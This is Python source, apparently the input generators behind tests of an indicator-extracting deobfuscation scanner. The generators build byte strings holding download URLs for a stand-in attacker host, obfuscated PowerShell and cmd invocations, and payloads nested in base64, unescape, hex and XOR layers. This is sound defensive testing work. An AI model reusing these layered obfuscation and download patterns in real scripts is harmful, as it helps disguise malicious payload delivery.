    if port is not None:
        text += b":" + port
    text += path
    if query is not None:
        text += b"?" + query
    if frag is not None:
        text += b"#" + frag
    return {"text": text, "scheme": scheme, "userinfo": userinfo, "host": host, "port": port, "path": path,
            "query": query, "fragment": frag, "host_kind": hk}


# --------------------------------------------------------------------------
# embedding

NEUTRAL_WORDS = [b"lorem", b"ipsum", b"qqq", b"zzz", b"vexil", b"quib", b"zork", b"jinx", b"wobble", b"flurb", b"kvetch",
                 b"zq", b"xj", b"plugh", b"xyzzy", b"foobarbaz"[:6], b"wumpus", b"blorp"]
DELIMS = [(b" ", b" "), (b'"', b'"'), (b"<", b">"), (b"\x00", b"\x00"), (b"\n", b"\n"), (b"\t", b" "), (b" ", b"\n")]


def neutral_text(r, n_words=None) -> bytes:
    n = r.randint(0, 6) if n_words is None else n_words
    return b" ".join(r.choice(NEUTRAL_WORDS) for _ in range(n))


def offsets_prefix(r, offset_class=None) -> bytes:
    """Neutral prefix of a chosen length class."""
    cls = offset_class or r.choice(["0", "small", "small", "64", "big"])
    if cls == "0":
        return b""
    target = {"small": r.choice([1, 2, 7, 13]), "64": r.choice([63, 64, 65]), "big": r.choice([200, 1000])}[cls]
    out = b""
    while len(out) < target:
        out += r.choice(NEUTRAL_WORDS) + b" "
    return out[:target].rstrip(b" ") + b" " if target > 1 else b" "
