"""G-reg: synthetic table-driven registries.

A configuration is (text, k, decoders) where decoders is a list of tables
{text: [hit spec, ...]}; hit spec = (type, value, obf, start, end, kids).
`as_callables` turns the tables into registry entries that build fresh Node
objects per call (like the shipped decoders) for the engine, and into plain
spec-returning callables for the reference model."""

from __future__ import annotations

import itertools

class SyntheticDecoderError(Exception):
    """Raised by a table-driven decoder on a text marked RAISE (a decoder of a user registry that fails on some value)."""


RAISE = "RAISE"
TEXT = b"aBcD"
F1, F2, F3 = b"xY", b"xYz", b"aB"

# fixed hit tables of the follow-up texts (decoder 0 owns them)
FOLLOW = {
    F1: [("f", b"x", "", 0, 1, ())],
    F2: [("g", F1, "dec", 1, 3, ()), ("f", b"xY", "", 0, 2, ()), ("h", b"Y", "", 1, 2, ())],
    # F3 == TEXT[:2]: whatever the configuration says about b"aB" applies again (self-reproduction)
}

KINDS = ["plain", "flip", "dec1", "dec2", "dec3", "kids1", "kids2", "restate", "decsame", "samelen"]


def intervals(n):
    return [(s, e) for s in range(n + 1) for e in range(s, n + 1)]


def make_hit(kind, s, e, text, idx):
    cov = text[s:e]
    t = f"t{idx}"
    if kind == "plain":
        return (t, cov, "", s, e, ()) if cov else None
    if kind == "flip":
        return (t, cov.swapcase(), "MixedCase", s, e, ()) if cov else None
    if kind == "dec1":
        return (t, F1, "d", s, e, ())
    if kind == "dec2":
        return (t, F2, "d", s, e, ())
    if kind == "dec3":
        return (t, F3, "d", s, e, ())
    if kind == "kids1":  # plain value with one pre-built child that is itself searchable
        v = cov or b"q"
        return (t, v, "", s, e, (("k", F1, "kd", 0, len(v), ()),))
    if kind == "kids2":  # decoded value with two pre-built children, the second has its own pre-built child
        return (t, F2, "d", s, e, (("k", b"x", "", 0, 1, ()), ("k", F3, "kd", 1, 3, (("kk", F1, "", 0, 2, ()),))))
    if kind == "restate":  # same type and value as the searched root, at offset 0 only meaningful when s == 0
        return ("", text, "", s, e, ())
    if kind == "samelen":  # a real decoding without a label whose value is exactly as long as the covered text
        return (t, bytes((c ^ 3) for c in cov), "", s, e, ()) if cov else None
    if kind == "decsame":  # decoded value equal to the covered text in another case -> counts as undecoded
        return (t, cov.lower(), "d", s, e, ()) if cov else None
    raise ValueError(kind)


def all_hits(text):
    out = []
    for (s, e) in intervals(len(text)):
        for kind in KINDS:
            h = make_hit(kind, s, e, text, 0)
            if h is not None:
                out.append((kind, s, e))
    return out


def config_from(text, picks, assignment, order):
    """picks: list of (kind, s, e); assignment: decoder index per pick; order: permutation of decoder indexes."""
    ndec = max(assignment) + 1 if assignment else 1
    tables = [dict() for _ in range(ndec)]
    for i, ((kind, s, e), d) in enumerate(zip(picks, assignment)):
        h = make_hit(kind, s, e, text, i)
        tables[d].setdefault(text, []).append(h)
    for ft, hits in FOLLOW.items():
        tables[0].setdefault(ft, [])
        tables[0][ft] = tables[0][ft] + list(hits)
    return [tables[i] for i in order]


def enumerate_configs(n_text, n_hits):
    """All multisets of n_hits hits over TEXT[:n_text] x partitions into decoders x decoder orders."""
    text = TEXT[:n_text]
    hits = all_hits(text)
    for picks in itertools.combinations_with_replacement(hits, n_hits):
        if n_hits <= 1:
            assigns = [(0,) * n_hits]
        elif n_hits == 2:
            assigns = [(0, 0), (0, 1)]
        else:
            assigns = [(0, 0, 0), (0, 0, 1), (0, 1, 0), (0, 1, 1), (0, 1, 2)]
        for assignment in assigns:
            ndec = max(assignment) + 1 if assignment else 1
            for order in itertools.permutations(range(ndec)):
                # within one decoder both listing orders of equal picks matter only if the picks differ
                yield text, list(picks), assignment, order
                if n_hits >= 2 and len(set(picks)) > 1 and len(set(assignment)) < n_hits:
                    yield text, list(reversed(picks)), tuple(reversed(assignment)), order


def count_configs(n_text, n_hits):
    return sum(1 for _ in enumerate_configs(n_text, n_hits))


# ---------------------------------------------------------------------------
# random registries beyond the exhaustive scope


def random_config(r, max_text=40, max_hits=14, n_texts=6, self_repro=False):
    texts = []
    alpha = b"aAbB cC.1" if r.random() < 0.8 else b"aAbB cC.1\xff\xfe\xe9\x80"
    for i in range(n_texts):
        n = r.randint(1, max_text if i == 0 else 12)
        texts.append(bytes(r.choice(alpha) for _ in range(n)))
    texts = list(dict.fromkeys(texts))
    ndec = r.randint(1, 4)
    tables = [dict() for _ in range(ndec)]

    def rand_kids(value, depth):
        kids = []
        if depth > 2:
            return ()
        pos = 0
        for _ in range(r.randint(1, 2)):
            s = r.randint(pos, len(value))
            e = r.randint(s, len(value))
            pos = s
            v = r.choice(texts) if r.random() < 0.6 else (value[s:e] or b"z")
            kids.append(("k%d" % depth, v, r.choice(["", "kd"]), s, e, rand_kids(v, depth + 1) if r.random() < 0.25 else ()))
        kids.sort(key=lambda h: h[3])
        return tuple(kids)

    for ti, text in enumerate(texts):
        n = len(text)
        nh = r.randint(0, max_hits if ti == 0 else 4)
        # build nested structure on purpose: pick a few anchor intervals and put hits inside them
        anchors = []
        for _ in range(nh):
            if anchors and r.random() < 0.6:
                a0, b0 = r.choice(anchors)
                s = r.randint(a0, b0)
                e = r.randint(s, b0)
            else:
                s = r.randint(0, n)
                e = r.randint(s, n)
            anchors.append((s, e))
            x = r.random()
            cov = text[s:e]
            typ = r.choice(["p", "q", "r", ""])
            if x < 0.45 and cov:
                hit = (typ or "p", cov if r.random() < 0.7 else cov.swapcase(), r.choice(["", "o"]), s, e, ())
            elif x < 0.70:
                hit = (typ, r.choice(texts), "d", s, e, ())
            elif x < 0.75 and cov:
                y = r.random()
                if y < 0.5:
                    hit = (typ, bytes(c ^ 3 for c in cov), "", s, e, ())  # unlabelled decoding of the same length
                else:
                    stripped = bytes(c for c in cov if c < 0x80)
                    hit = (typ, stripped or b"z", "", s, e, ())  # differs from the covered text only by dropped high bytes
            elif x < 0.85:
                v = r.choice(texts) if r.random() < 0.5 else (cov or b"z")
                hit = (typ, v, "", s, e, rand_kids(v, 0))
            elif x < 0.92:
                hit = ("", text, "", s, e, ()) if r.random() < 0.5 else (typ, text, "", 0, e, ())
            elif x < 0.96:
                hit = (typ, b"", "empty", s, e, ())  # empty value: dropped by the engine
            else:
                hit = (typ, b"zw", "zero-width", s, s, ())
            tables[r.randrange(ndec)].setdefault(text, []).append(hit)
    if max_text >= 200 and len(texts[0]) >= 170:
        # decodings that leave a long prefix of the covered text unchanged and shorten it near the end, with raw hits in
        # the tail of the encoded span (a 'decoded?' test that looks at a prefix only would take them for contexts)
        text = texts[0]
        n = len(text)
        s0 = r.randint(0, 10)
        e0 = r.randint(n - 8, n)
        cov = text[s0:e0]
        cut = r.randint(max(135, len(cov) - 25), len(cov) - 2)
        val = cov[:cut] + cov[cut + 1:] if r.random() < 0.5 else cov[: len(cov) - r.randint(1, 15)]
        tables[r.randrange(ndec)].setdefault(text, []).append(("trim", val, r.choice(["shortened", ""]), s0, e0, ()))
        for _ in range(r.randint(1, 3)):
            a0 = r.randint(max(s0, e0 - 20), e0 - 1)
            b0 = r.randint(a0 + 1, e0)
            tables[r.randrange(ndec)].setdefault(text, []).append(("tail", text[a0:b0], "", a0, b0, ()))
    if r.random() < 0.12:
        # a registry may list the same decoder object more than once (merged registries): it is applied once per listing
        tables.insert(r.randrange(len(tables) + 1), r.choice(tables))
    if self_repro:
        # every decoded value can be decoded again, forever
        d = tables[0]
        for text in texts:
            d.setdefault(text, []).append(("loop", text + b"!" if len(text) < 30 else text[:5], "again", 0, len(text), ()))
    if len(texts) > 1 and r.random() < 0.06:
        # a decoder that fails on one of the deeper texts: the scan may propagate the failure, but it must not return a tree
        # as if nothing had happened (and go on without that decoder)
        r.choice(tables)[r.choice(texts[1:])] = RAISE
    return texts[0], tables


# ---------------------------------------------------------------------------
# adapters


def _lookup(t, text):
    got = t.get(bytes(text), [])
    if got == RAISE:
        raise SyntheticDecoderError(bytes(text)[:20])
    return got


def model_registry(tables):
    return [(lambda text, t=t: _lookup(t, text)) for t in tables]


def engine_registry(tables, appendix=None):
    """Registry entries that build fresh Node objects on every call."""
    from multidecoder.node import Node

    def build(spec):
        kids = [build(k) for k in spec[5]]
        return Node(spec[0], spec[1], spec[2], spec[3], spec[4], children=kids if kids else None)

    out = []
    made = {}
    for t in tables:
        if id(t) not in made:
            def dec(data, t=t):
                return [build(s) for s in _lookup(t, data)]
            made[id(t)] = dec
        out.append(made[id(t)])  # the same table twice -> the very same callable twice
    return out


def spec_in_bounds(spec, n) -> bool:
    if not (0 <= spec[3] <= spec[4] <= n):
        return False
    return all(spec_in_bounds(k, len(spec[1])) for k in spec[5])


def encode_tables(tables):
    def enc(s):
        return [s[0], s[1].hex(), s[2], s[3], s[4], [enc(k) for k in s[5]]]
    out, first = [], {}
    for i, t in enumerate(tables):
        if id(t) in first:
            out.append({"same_as": first[id(t)]})  # the same decoder object listed again
        else:
            first[id(t)] = i
            out.append({k.hex(): (RAISE if v == RAISE else [enc(h) for h in v]) for k, v in t.items()})
    return out


def decode_tables(j):
    def dec(s):
        return (s[0], bytes.fromhex(s[1]), s[2], s[3], s[4], tuple(dec(k) for k in s[5]))
    out = []
    for t in j:
        if "same_as" in t:
            out.append(out[t["same_as"]])
        else:
            out.append({bytes.fromhex(k): (RAISE if v == RAISE else [dec(h) for h in v]) for k, v in t.items()})
    return out
