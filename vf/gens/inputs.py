"""Byte-string workloads for scan-based checks. Every generator yields
(label, data, depth) with depth None = library default."""

from __future__ import annotations

import base64

from vf.gens import base, pe, shellgen, skel

DEPTHS = [-(2 ** 31), -1, 0, 1, 2, 3, 10, 12, 50, 10 ** 6, 2 ** 63]


def g_skel(spec, r):
    for idx, L, extra in spec["items"]:
        for name, core in skel.cases(idx, L, extra, r):
            for pre, post in skel.EMBED:
                yield "skel:" + name, pre + core + post, None


def g_xor(spec, r):
    for name, data in skel.xor_numbers():
        yield name, data, None


def g_cmd(spec, r):
    while True:
        x = r.random()
        if x < 0.5:
            yield "cmd:enc", shellgen.encoded_invocation(r)["data"], None
        elif x < 0.7:
            yield "cmd:plain-ps", shellgen.plain_invocation(r), None
        else:
            yield "cmd:cmd", shellgen.cmd_text(r), None


def g_pe(spec, r):
    while True:
        for img, _ in pe.valid_images(r):
            off = r.choice([0, 1, 7, 64, 300])
            yield "pe:valid", bytes(r.randrange(256) for _ in range(off)) + img + r.choice([b"", b" tail", b"MZ"]), None
        for label, data in pe.malformed(r):
            pre = r.choice([b"", b"", b"x", b"MZ", b"junk " * 3])
            yield "pe:" + label, pre + data, None


def numbers_blob(r, n=None):
    n = n or r.randint(501, 600)
    kind = r.randrange(6)
    if kind == 0:
        vals = [i % 256 for i in range(n)]
    elif kind == 1:
        step = r.randint(1, 255)
        vals = [(i * step) % 256 for i in range(n)]
    elif kind == 2:
        vals = [r.randrange(256) for _ in range(n)]
    elif kind == 3:
        key = bytes(r.randrange(256) for _ in range(r.randint(1, 8)))
        text = (b"This program cannot be run in DOS mode. " * 20)[:n]
        vals = [c ^ key[i % len(key)] for i, c in enumerate(text)]
    elif kind == 4:
        vals = [r.choice([0, 255, 256, 300, 999, 7]) for _ in range(n)]
    else:
        vals = [r.randrange(4) for _ in range(n)]
    hexy = r.random() < 0.3
    sep = r.choice([b",", b", ", b",\n", b",  "])
    return sep.join((b"0x%02x" % (v % 256)) if hexy and r.random() < 0.8 else str(v).encode() for v in vals)


def g_xorbytes(spec, r):
    while True:
        blob = numbers_blob(r)
        tail = r.choice([b" -bxor $k", b"-bxor", b" -bxor 35", b" -bxor 300", b" -bxor 0", b" -xor 255", b" -bxor 256",
                         b"", b" | % { $_ -bxor 0x41 }"])
        pre = r.choice([b"", b"[Byte[]] $b = ", b"$x=(", b"-bxor 7; "])
        yield "xorbytes", pre + blob + tail, None


def wrap_layers(r, payload: bytes, n: int) -> bytes:
    cur = payload
    for _ in range(n):
        k = r.randrange(4)
        if k == 0:
            cur = b'atob("' + base64.b64encode(cur) + b'")'
        elif k == 1:
            cur = b"FromBase64String('" + base64.b64encode(cur) + b"')"
        elif k == 2:
            cur = b"unescape('" + b"".join(b"%%%02x" % c for c in cur) + b"')"
        else:
            cur = b"x " + cur.hex().encode() + b" y" if len(cur) >= 10 else b'atob("' + base64.b64encode(cur) + b'")'
        if len(cur) > base.MAX_INPUT:
            break
    return cur[: base.MAX_INPUT]


def g_matryoshka(spec, r):
    while True:
        payload = r.choice([b"http://evil.example.com/a.exe", b"1.2.3.4", b"cmd /c calc.exe", b"x"])
        n = r.randint(1, 24)
        yield "matryoshka", wrap_layers(r, payload, n), r.choice(DEPTHS + [None, None, 4, 5, 24, 30])


def g_nesting(spec, r):
    """Deep *context* nesting (undecoded hits inside undecoded hits)."""
    while True:
        n = r.choice([1, 2, 5, 20, 100, 300, 700, 1000, 1150])
        kind = r.randrange(3)
        if kind == 0:
            yield "nest:createobject", b"CreateObject(" * n + b")" * n, None
        elif kind == 1:
            yield "nest:paren-cmd", b"(" * min(n, 2000) + b"cmd /c x" + b")" * min(n, 2000), None
        else:
            yield "nest:quotes", (b"createobject(" * n + b"\"a\"+\"b\"" + b")" * n)[: base.MAX_INPUT], None


def g_seedmut(spec, r):
    seeds = base.harvest_seeds()
    while True:
        s = r.choice(seeds)
        x = r.random()
        if x < 0.1:
            yield "seed", s, None
        else:
            m = base.mutate(r, s, seeds)
            yield "seedmut", m, (r.choice(DEPTHS) if r.random() < 0.1 else None)


def g_soup(spec, r):
    while True:
        yield "soup", base.soup(r), (r.choice(DEPTHS) if r.random() < 0.05 else None)


def g_large(spec, r):
    """One class of larger inputs (64 KiB - 1 MiB), thorough tier only."""
    seeds = base.harvest_seeds()
    while True:
        size = r.choice([1 << 16, 1 << 18, 1 << 20])
        parts = []
        total = 0
        while total < size:
            p = r.choice(seeds) if r.random() < 0.5 else base.soup(r)
            parts.append(p)
            parts.append(r.choice([b" ", b"\n", b"\x00", b""]))
            total += len(p) + 1
        yield "large", b"".join(parts)[:size], None


GENERATORS = {
    "skel": g_skel, "xor": g_xor, "cmd": g_cmd, "pe": g_pe, "xorbytes": g_xorbytes, "matryoshka": g_matryoshka,
    "nesting": g_nesting, "seedmut": g_seedmut, "soup": g_soup, "large": g_large,
}


def generate(spec, r):
    return GENERATORS[spec["gen"]](spec, r)
