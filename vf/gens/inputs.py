"""Byte-string workloads for scan-based checks. Every generator yields
(label, data, depth) with depth None = library default."""

from __future__ import annotations

import base64

from vf.gens import base, layers, netgen, pe, shellgen, skel

DEPTHS = [-(2 ** 31), -1, 0, 1, 2, 3, 10, 12, 50, 10 ** 6, 2 ** 63]


def g_skel(spec, r):
    for idx, L, extra in spec["items"]:
        for name, core in skel.cases(idx, L, extra, r):
            for pre, post in skel.EMBED:
                yield "skel:" + name, pre + core + post, None


def g_xor(spec, r):
    for name, data in skel.xor_numbers():
        yield name, data, None


def g_cmd(spec, r):
    while True:
        x = r.random()
        if x < 0.5:
            yield "cmd:enc", shellgen.encoded_invocation(r)["data"], None
        elif x < 0.7:
            yield "cmd:plain-ps", shellgen.plain_invocation(r), None
        else:
            yield "cmd:cmd", shellgen.cmd_text(r), None


def g_pe(spec, r):
    while True:
        for img, _ in pe.valid_images(r):
            off = r.choice([0, 1, 7, 64, 300])
            yield "pe:valid", bytes(r.randrange(256) for _ in range(off)) + img + r.choice([b"", b" tail", b"MZ"]), None
        for label, data in pe.malformed(r):
            pre = r.choice([b"", b"", b"x", b"MZ", b"junk " * 3])
            yield "pe:" + label, pre + data, None


def numbers_blob(r, n=None):
    n = n or r.randint(501, 600)
    kind = r.randrange(6)
    if kind == 0:
        vals = [i % 256 for i in range(n)]
    elif kind == 1:
        step = r.randint(1, 255)
        vals = [(i * step) % 256 for i in range(n)]
    elif kind == 2:
        vals = [r.randrange(256) for _ in range(n)]
    elif kind == 3:
        key = bytes(r.randrange(256) for _ in range(r.randint(1, 8)))
        text = (b"This program cannot be run in DOS mode. " * 20)[:n]
        vals = [c ^ key[i % len(key)] for i, c in enumerate(text)]
    elif kind == 4:
        vals = [r.choice([0, 255, 256, 300, 999, 7]) for _ in range(n)]
    else:
        vals = [r.randrange(4) for _ in range(n)]
    hexy = r.random() < 0.3
    sep = r.choice([b",", b", ", b",\n", b",  "])
    pre = r.choice([b"0x", b"0x", b"0X"])
    fmt = r.choice([b"%02x", b"%02X"])
    return sep.join((pre + fmt % (v % 256)) if hexy and r.random() < 0.8 else str(v).encode() for v in vals)


def g_xorbytes(spec, r):
    while True:
        if r.random() < 0.15:
            # short arrays of pairwise distinct values (S-box / permutation style) next to a key-less -bxor
            n = r.randint(51, 256)
            vals = r.sample(range(256), n)
            yield "xorbytes", b"$s = " + b",".join(str(v).encode() for v in vals) + r.choice([b" -bxor $k", b" -bxor 0", b"; $x -bxor $y"]), None
            continue
        blob = numbers_blob(r)
        tail = r.choice([b" -bxor $k", b"-bxor", b" -bxor 35", b" -bxor 300", b" -bxor 0", b" -xor 255", b" -bxor 256",
                         b"", b" | % { $_ -bxor 0x41 }"])
        pre = r.choice([b"", b"[Byte[]] $b = ", b"$x=(", b"-bxor 7; "])
        yield "xorbytes", pre + blob + tail, None


def wrap_layers(r, payload: bytes, n: int) -> bytes:
    cur = payload
    for _ in range(n):
        k = r.randrange(4)
        if k == 0:
            cur = b'atob("' + base64.b64encode(cur) + b'")'
        elif k == 1:
            cur = b"FromBase64String('" + base64.b64encode(cur) + b"')"
        elif k == 2:
            cur = b"unescape('" + b"".join(b"%%%02x" % c for c in cur) + b"')"
        else:
            cur = b"x " + cur.hex().encode() + b" y" if len(cur) >= 10 else b'atob("' + base64.b64encode(cur) + b'")'
        if len(cur) > base.MAX_INPUT:
            break
    return cur[: base.MAX_INPUT]


def g_matryoshka(spec, r):
    while True:
        payload = r.choice([b"http://evil.example.com/a.exe", b"1.2.3.4", b"cmd /c calc.exe", b"x"])
        n = r.randint(1, 24)
        yield "matryoshka", wrap_layers(r, payload, n), r.choice(DEPTHS + [None, None, 4, 5, 24, 30])


def g_nesting(spec, r):
    """Deep *context* nesting (undecoded hits inside undecoded hits)."""
    while True:
        n = r.choice([1, 2, 5, 20, 100, 300, 700, 1000, 1150])
        kind = r.randrange(3)
        if kind == 0:
            yield "nest:createobject", b"CreateObject(" * n + b")" * n, None
        elif kind == 1:
            yield "nest:paren-cmd", b"(" * min(n, 2000) + b"cmd /c x" + b")" * min(n, 2000), None
        else:
            yield "nest:quotes", (b"createobject(" * n + b"\"a\"+\"b\"" + b")" * n)[: base.MAX_INPUT], None


def g_seedmut(spec, r):
    seeds = base.harvest_seeds()
    while True:
        s = r.choice(seeds)
        x = r.random()
        if x < 0.1:
            yield "seed", s, None
        else:
            m = base.mutate(r, s, seeds)
            yield "seedmut", m, (r.choice(DEPTHS) if r.random() < 0.1 else None)


def g_soup(spec, r):
    while True:
        yield "soup", base.soup(r), (r.choice(DEPTHS) if r.random() < 0.05 else None)


def g_large(spec, r):
    """One class of larger inputs (64 KiB - 1 MiB), thorough tier only."""
    seeds = base.harvest_seeds()
    while True:
        size = r.choice([1 << 16, 1 << 18, 1 << 20])
        parts = []
        total = 0
        while total < size:
            p = r.choice(seeds) if r.random() < 0.5 else base.soup(r)
            parts.append(p)
            parts.append(r.choice([b" ", b"\n", b"\x00", b""]))
            total += len(p) + 1
        yield "large", b"".join(parts)[:size], None


def g_repeat(spec, r):
    """The same material twice (or three times) in one input: shared/cached result objects show up as
    nodes reachable twice."""
    seeds = base.harvest_seeds()
    urls = [b"http://evil.example.com/a/b?x=1#f", b"https://user:pw@1.2.3.4:8080/p/../q", b"ftp://example.org/file.exe",
            b"\\\\host.example.com\\share\\a.exe", b"C:\\Windows\\System32\\calc.exe", b"p^owershell -e ZQBjAGgAbwAgAGIAZQBlAA==",
            b"FromBase64String('ZHVjaw==') -bxor 35", b"user@example.com", b"93.184.216.34"]
    while True:
        x = r.random()
        s = r.choice(urls) if x < 0.4 else (r.choice(seeds) if x < 0.8 else base.soup(r, 8))
        s = s[:4000]
        sep = r.choice([b" ", b"\n", b" and ", b"', '", b"\x00"])
        yield "repeat", sep.join([s] * r.choice([2, 2, 3])), None


def _embed(r, ind: bytes) -> bytes:
    dl, dr = r.choice(netgen.DELIMS + [(b"'", b"'"), (b"(", b")"), (b"", b""), (b"=", b";"), (b"cmd /c start ", b""),
                                       (b"x 'powershell iwr ", b"'"), (b"\x0d", b"0000")])
    pre = netgen.offsets_prefix(r) if r.random() < 0.7 else base.soup(r, 5)
    post = netgen.neutral_text(r) if r.random() < 0.7 else base.soup(r, 5)
    return pre + dl + ind + dr + post


def g_url(spec, r):
    while True:
        u = netgen.url(r)
        x = r.random()
        if r.random() < 0.08:
            # the closer of the enclosing quote / parenthesis sits inside the userinfo, right after an '@': what is left after
            # trimming at the closer has no host
            op, cl = r.choice([(b"'", b"'"), (b"(", b")")])
            user = netgen.label(r, 1, 6)
            text = r.choice(netgen.SCHEMES) + b"://" + user + b"@" + cl + b"+h+" + (op if op == b"'" else b"") + b"@" + netgen.domain(r) + b"/" + netgen.label(r)
            yield "url:ctx", netgen.offsets_prefix(r) + r.choice([b"fetch", b"x=", b""]) + op + text + cl + b" " + netgen.neutral_text(r), None
            continue
        if x < 0.75:
            yield "url", _embed(r, u["text"]), None
        elif x < 0.9:
            yield "url:mut", _embed(r, base.mutate(r, u["text"], [])), None
        else:
            yield "url:two", _embed(r, u["text"]) + b" " + _embed(r, netgen.url(r)["text"]), None


def g_ioc(spec, r):
    while True:
        k = r.randrange(13)
        if k in (11, 12):
            # a bare file name with an extension that is not an executable's (no result of its own), alone or next to a
            # Windows path with the same extension
            ext = r.choice([b".txt", b".pdf", b".xlsx", b".doc", b".ps1", b".js"])
            bare = netgen.label(r, 3, 9).replace(b"-", b"_") + ext
            ind = bare if k == 11 else b"C:\\Users\\Public\\" + netgen.label(r, 3, 9).replace(b"-", b"_") + ext + b" and " + bare
        elif k == 9:
            ind = netgen.odd_ipv4(r)
        elif k == 10:
            odd = netgen.odd_ipv4(r)
            ind = r.choice([b"http://" + odd + b"/a", b"\\\\" + odd + b"\\share\\file.txt", b"ftp://u@" + odd + b":21/"])
        elif k == 0:
            ind = netgen.ipv4(r)
        elif k == 1:
            ind = netgen.domain(r, case_mix=r.random() < 0.3)
        elif k == 2:
            ind = netgen.email(r)
        elif k == 3:
            ind = netgen.posix_path(r)
        elif k in (4, 5):
            ind = netgen.windows_path(r)[0]
        elif k == 6:
            ind = netgen.exe_name(r)
        elif k == 7:
            ind = netgen.createobject(r)
        else:
            ind = r.choice([b"256.1.1.1", b"1.2.3.04", b"0x7f.0.0.1", b"1.2.3.4.5", b"10.0.0.255", b"0.0.0.0", b"999.1.1.1",
                            b"a.notatld", b"xn--abcde.xn--p1ai", b"foo.com1", b"foo.com0", b"x@y.com", b"a..b@example.com",
                            b"user@host.zzzzq", b"1.2.3.4%20", b"\\\\010.1.1.1\\share\\f.txt", b"\\\\?\\UNC\\0x7f.1\\share\\a.dll",
                            # short-form hosts whose canonical form is longer than what follows them once dot segments are removed
                            b"\\\\.\\UNC\\10.20.30.40\\..\\abc", b"\\\\.\\UNC\\files.example.com\\..\\xy.txt", b"\\\\.\\UNC\\7\\.\\run", b"\\\\.\\UNC\\10\\tmp\\..\\abc", b"\\\\?\\UNC\\1\\a\\..\\..\\xyz", b"\\\\7\\.\\run",
                            b"http://[::ffff:7f00:1]/", b"http://[0:0:0:0:0:FFFF:0A00:0005]/x"])
        yield "ioc", _embed(r, ind), None


def g_layer(spec, r):
    while True:
        rec = layers.build_stack(r, r.choice([1, 1, 2, 2, 3, 4]))
        if rec is None:
            continue
        yield "layer:" + "/".join(l["name"] for l in rec["layers"]), rec["data"], None


CTX_WRAPS = [(b"http://files.example.com/get?d=", b""), (b"ftp://10.1.2.3/pub/", b" zz"), (b"see https://example.org/a#", b" zz"),
             (b"cmd /c start ",  b""), (b"CreateObject(", b")"), (b"x 'powershell iwr ", b"'"), (b"(cmd /c echo ", b") zz"),
             (b"createobject(createobject( ", b" ))"), (b"\"powershell -c ", b"\""), (b"cmd /c echo admin@", b""),
             (b"", b"")]


def decodable_with_inner(r) -> bytes:
    """A decodable expression whose *encoded span* contains raw indicators of its own."""
    k = r.randrange(8)
    dom = netgen.domain(r)
    ip = netgen.ipv4(r)
    if k == 0:
        return b"http://" + dom + b"/" + base64.b64encode(b"evil." + dom + b"/malware.exe")
    if k == 1:
        return b"https://user:pw@" + ip + b":8080/a/../" + netgen.label(r) + b".exe?q=%41#f"
    if k == 2:
        return b'"ht" + "tp://' + ip + b'/x.exe"'
    if k == 3:
        return b"\\\\" + r.choice([ip, dom]) + b"\\share\\..\\" + netgen.label(r) + b".exe"
    if k == 4:
        return b"unescape('%68ttp://" + ip + b"/" + netgen.label(r) + b".dll')"
    if k == 5:
        inner = b"connect to " + dom + b" and " + ip + b" now please"
        x = r.random()
        if x < 0.3:
            # two layers without a single character a URL / path / command line would not accept
            return r.choice([base64.b64encode(b"text " + base64.b64encode(inner) + b" end").hex().encode(),
                             base64.b64encode(b"hex " + inner.hex().encode() + b" end")])
        if x < 0.45:
            # a key stated in the outer text only must not leak into what is decoded from it
            conv = r.choice([b"FromBase64String('" + base64.b64encode(inner) + b"')", b"FromHexString('" + inner.hex().encode() + b"')"])
            return base64.b64encode(b"run " + conv + b" now") + b" -bxor " + str(r.randint(1, 255)).encode()
        return base64.b64encode(inner)
    if k == 6:
        return b"reverse('" + (b"visit " + dom)[::-1] + b"') " + dom[::-1]
    return b"C:\\Users\\.\\" + netgen.label(r) + b"\\..\\" + netgen.exe_name(r)


def g_ctxdec(spec, r):
    """Decoded hit inside an undecoded context at a positive offset, with raw hits inside its span."""
    while True:
        pre, post = r.choice(CTX_WRAPS)
        lead = r.choice([b"", b"xx ", b"padding padding ", netgen.offsets_prefix(r)])
        body = decodable_with_inner(r)
        extra = r.choice([b"", b" " + netgen.email(r), b" and " + decodable_with_inner(r), b" " + netgen.domain(r)])
        yield "ctxdec", lead + pre + body + extra + post + r.choice([b"", b" tail"]), None


def g_plainnest(spec, r):
    """Nested plain indicators only: by construction nothing in these inputs is encoded, escaped, normalised or listed
    as a keyword in another letter case, so flattening the scan must give back the input."""
    while True:
        k = r.randint(1, 5)
        core = r.choice([netgen.email(r), b"see " + netgen.domain(r) + b" ok", b"ping " + netgen.ipv4(r) + b" -n 3",
                         b"ping " + netgen.domain(r) + b"; ping " + netgen.ipv4(r), netgen.exe_name(r).lower()])
        for _ in range(k):
            w = r.randrange(5)
            if w == 0:
                core = b"x( " + core + b" )"
            elif w == 1:
                core = b"x 'powershell -c " + core + b"'"
            elif w == 2:
                core = b"(cmd /c " + core + b")"
            elif w == 3:
                core = b'"cmd /c powershell -c ' + core + b'; ping ' + netgen.ipv4(r) + b' -n 3" tail'
            else:
                core = b"zz " + core + b" " + netgen.domain(r)
        yield "plainnest", r.choice([b"", b"x ", b"lorem ipsum "]) + core, None


def g_nest(spec, r):
    """k properly nested raw indicators at positive offsets (contexts inside contexts)."""
    while True:
        k = r.randint(1, 6)
        core = r.choice([netgen.email(r), b"see " + netgen.domain(r) + b" ok", netgen.posix_path(r), b"strlen " + netgen.ipv4(r),
                         b"cmd /c echo " + netgen.email(r)])
        for _ in range(k):
            w = r.randrange(4)
            if w == 0:
                core = b"CreateObject( " + core + b" )"
            elif w == 1:
                core = b"x 'powershell " + core + b"'"
            elif w == 2:
                core = b"(cmd /c " + core + b")"
            else:
                core = b"zz " + core
        yield "nest", r.choice([b"", b"q ", b"lorem ipsum "]) + core, None


RU_UNITS = [b"\\", b"\\\\", b'"', b"'", b"a", b"^", b"(", b")", b"%41", b"&#65;", b"/", b"../", b".", b"@", b"A=", b"0,", b"0x41,", b" ", b"\r\n",
            b"_", b"+", b'""', b'`"', b"a.", b"-", b"cmd ", b"\x00\x00", b"a\x00", b"'' ", b"\\\"", b"aA", b"=", b"&", b"[", b"{", b"<", b":", b";"]
RU_COUNTS = [8, 16, 24, 28, 32, 48, 64, 200, 800]
RU_PREFIX = [b"", b'"', b"'", b"http://", b"cmd /c ", b"powershell ", b"x@", b'"a" + "', b"unescape('", b"\\\\", b"reverse(\"", b"CreateObject(",
             b"atob(\"", b"'a' -replace '"]
RU_SUFFIX = [b"", b'"', b"'", b")", b" x", b"\")", b".com"]
# numeric fields whose pattern puts no bound on leading zeros / digits (beyond the interpreter's 4300 digit int() limit)
